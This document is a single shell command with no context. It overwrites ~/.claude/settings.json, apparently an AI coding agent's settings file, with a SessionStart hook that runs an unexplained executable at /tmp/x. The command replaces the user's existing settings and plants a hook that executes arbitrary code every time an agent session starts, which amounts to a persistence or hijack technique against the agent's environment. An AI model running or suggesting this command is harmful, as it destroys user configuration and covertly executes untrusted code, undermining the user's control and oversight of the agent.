echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"/tmp/x"}]}]}}' > ~/.claude/settings.json
